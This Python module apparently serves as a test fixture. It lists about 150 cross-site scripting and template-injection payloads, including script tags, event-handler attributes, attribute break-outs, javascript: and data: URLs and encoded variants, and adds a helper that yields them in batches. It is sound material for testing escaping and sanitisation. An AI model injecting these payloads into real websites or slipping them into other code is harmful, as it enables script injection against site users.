"""Names that would be markup, script or something else than text, wherever that is looked for."""

from typing import Final

_ALERTS: Final = ("alert(1)", "alert`1`")

_SCRIPTS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script\t>alert(1)</script\n>",
    "<script src=data:,alert(1)></script>",
    "<script type=module>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<math><script>alert(1)</script></math>",
)
"""Scripts, and what might close whatever they stand in."""

_HANDLERS: Final = tuple(
    f"<{tag}={alert}>"
    for tag, alert in (
        *((tag, _ALERTS[0]) for tag in (
            "img src=x onerror", "IMG SRC=x ONERROR", "img/src=`x`/onerror", "image src=x onerror",
            "svg onload", "svg/onload", "body onload", "body onpageshow", "body onresize",
            "iframe onload", "object onerror data=x onload", "embed onload", "frameset onload",
            "details open ontoggle", "video><source onerror", "video src=x onerror",
            "audio src=x onerror", "input autofocus onfocus", "select autofocus onfocus",
            "textarea autofocus onfocus", "button autofocus onfocus", "a tabindex=1 autofocus onfocus",
            "marquee onstart", "p style=animation:x onanimationstart", "x contenteditable onbeforeinput",
            "dialog open onclose", "style onload", "link rel=stylesheet href=x onerror",
            "svg><animate onbegin", "svg><set attributeName=x onbegin", "math><mi onclick",
            "div onpointerover", "b onmouseover", "x onclick", "xss oncontentvisibilityautostatechange",
            "form onformdata", "p popover onbeforetoggle", "track onerror", "isindex onfocus",
        )),
        ("img src=x onerror", _ALERTS[1]),
        ("svg onload", _ALERTS[1]),
    )
)  # fmt: skip
"""Elements that run something by themselves, or once they are touched."""

_BROKEN_OUT: Final = (
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "`><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' onfocus='alert(1)' autofocus x='",
    "` onclick=alert(1) x=`",
    '" autofocus onfocus=alert(1) x',
    '"/onerror=alert(1)/src=x',
    "x onerror=alert(1)",
    '\\"><svg onload=alert(1)>',
    "</bdi><svg onload=alert(1)>",
    "</span></p></li><svg onload=alert(1)>",
    "</svg><img src=x onerror=alert(1)>",
    "</math><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml ?><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img src="x"onerror="alert(1)">',
    "<img src=x\x0conerror=alert(1)>",
)
"""Out of an attribute, an element or a comment."""

_ADDRESSES: Final = tuple(
    form.replace("ADDRESS", address)
    for address, form in (
        ("javascript:alert(1)", "<a href=ADDRESS>x</a>"),
        ("JaVaScRiPt:alert(1)", "<a href=ADDRESS>x</a>"),
        ("java\tscript:alert(1)", '<a href="ADDRESS">x</a>'),
        ("&#106;avascript:alert(1)", "<a href=ADDRESS>x</a>"),
        ("data:text/html,<script>alert(1)</script>", "<a href='ADDRESS'>x</a>"),
        ("javascript:alert(1)", "<iframe src=ADDRESS>"),
        ("<script>alert(1)</script>", "<iframe srcdoc='ADDRESS'>"),
        ("javascript:alert(1)", "<object data=ADDRESS>"),
        ("javascript:alert(1)", "<embed src=ADDRESS>"),
        ("javascript:alert(1)", "<form action=ADDRESS><button>"),
        ("javascript:alert(1)", "<button formaction=ADDRESS>x"),
        ("javascript:alert(1)", "<svg><a xlink:href=ADDRESS><text>x"),
        ("javascript:alert(1)", "<math><a xlink:href=ADDRESS>x"),
        ("data:image/svg+xml,<svg onload=alert(1)>", "<svg><use href='ADDRESS#x'>"),
        ("javascript:alert(1)", "<img src=ADDRESS>"),
        ("javascript:alert(1)", "<div style=background:url(ADDRESS)>"),
        ("//example.org/", "<base href=ADDRESS>"),
        ("0;url=javascript:alert(1)", "<meta http-equiv=refresh content=ADDRESS>"),
        ("0;url=//example.org", "<meta http-equiv=refresh content=ADDRESS>"),
        ("//example.org", "<link rel=stylesheet href=ADDRESS>"),
        ("//example.org", "<link rel=import href=ADDRESS>"),
        ("//example.org/x.js", "<script src=ADDRESS></script>"),
        ("javascript:alert(1)", "ADDRESS"),
        ("javascript:alert(1)", "[x](ADDRESS)"),
        ("vbscript:msgbox(1)", "<a href=ADDRESS>x</a>"),
    )
)
"""What would be followed or fetched."""

_OTHER: Final = (
    "<style>*{display:none}</style>",
    "<style>@import'//example.org';</style>",
    "<x style=width:expression(alert(1))>",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}",
    "{@html '<img src=x onerror=alert(1)>'}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{name}",
    "{n, plural, other {#}}",
    "__proto__",
    "constructor",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<template><script>alert(1)</script></template>",
    "<table><td background=javascript:alert(1)>",
    "<slot name=x><img src=x onerror=alert(1)>",
)
"""What templates, catalogues, styles and decoders might take for theirs."""

PAYLOADS: Final = (*_SCRIPTS, *_HANDLERS, *_BROKEN_OUT, *_ADDRESSES, *_OTHER)


def at_a_time(count: int) -> list[tuple[str, ...]]:
    """All of them by so many; the last handful begins earlier, so that it is whole too."""
    handfuls = [PAYLOADS[start : start + count] for start in range(0, len(PAYLOADS), count)]
    return [*handfuls[:-1], PAYLOADS[-count:]]
